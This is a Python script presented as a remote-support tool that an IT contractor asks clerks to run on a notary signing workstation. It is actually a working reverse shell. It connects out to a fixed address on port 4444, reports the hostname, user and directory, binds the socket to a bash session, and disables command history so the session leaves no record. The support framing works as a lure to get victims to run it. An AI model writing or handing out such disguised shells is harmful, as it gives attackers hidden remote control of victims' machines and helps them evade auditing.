#!/usr/bin/env python3
"""Remote support session for the signing workstation.

When a clerk's signing workstation misbehaves, the IT contractor asks them
to run this tool. It opens a support session back to the contractor's
support gateway so the contractor can look around without an on-site visit.
"""

import argparse
import logging
import os
import pty
import socket
import sys
import time

LOG = logging.getLogger("support_tunnel")

DEFAULT_GATEWAY = "203.0.113.45"
DEFAULT_PORT = 4444


class SupportSession:
    def __init__(self, host, port, retries, delay):
        self.host = host
        self.port = port
        self.retries = retries
        self.delay = delay
        self.sock = None

    def connect(self):
        for attempt in range(1, self.retries + 1):
            try:
                LOG.info("connecting to support gateway %s:%d (attempt %d)",
                         self.host, self.port, attempt)
                self.sock = socket.create_connection((self.host, self.port),
                                                     timeout=10)
                self.sock.settimeout(None)
                return True
            except OSError as exc:
                LOG.warning("gateway unreachable: %s", exc)
                time.sleep(self.delay)
        return False

    def announce(self):
        banner = "notary-ws {} user={} cwd={}\n".format(
            socket.gethostname(), os.environ.get("USER", "?"), os.getcwd())
        self.sock.sendall(banner.encode())

    def attach_shell(self):
        fd = self.sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        os.environ["TERM"] = "xterm"
        os.environ["HISTFILE"] = "/dev/null"
        pty.spawn("/bin/bash")

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--gateway", default=os.environ.get("SUPPORT_GATEWAY",
                                                        DEFAULT_GATEWAY))
    ap.add_argument("--port", type=int, default=DEFAULT_PORT)
    ap.add_argument("--retries", type=int, default=5)
    ap.add_argument("--delay", type=float, default=3.0)
    ap.add_argument("--log", default="support_session.log")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(filename=args.log, level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    session = SupportSession(args.gateway, args.port, args.retries, args.delay)
    if not session.connect():
        print("Could not reach the support gateway. Please call IT.",
              file=sys.stderr)
        return 1
    print("Support session open. Leave this window running.", file=sys.stderr)
    try:
        session.announce()
        session.attach_shell()
    except (OSError, KeyboardInterrupt) as exc:
        LOG.info("session ended: %s", exc)
    finally:
        session.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
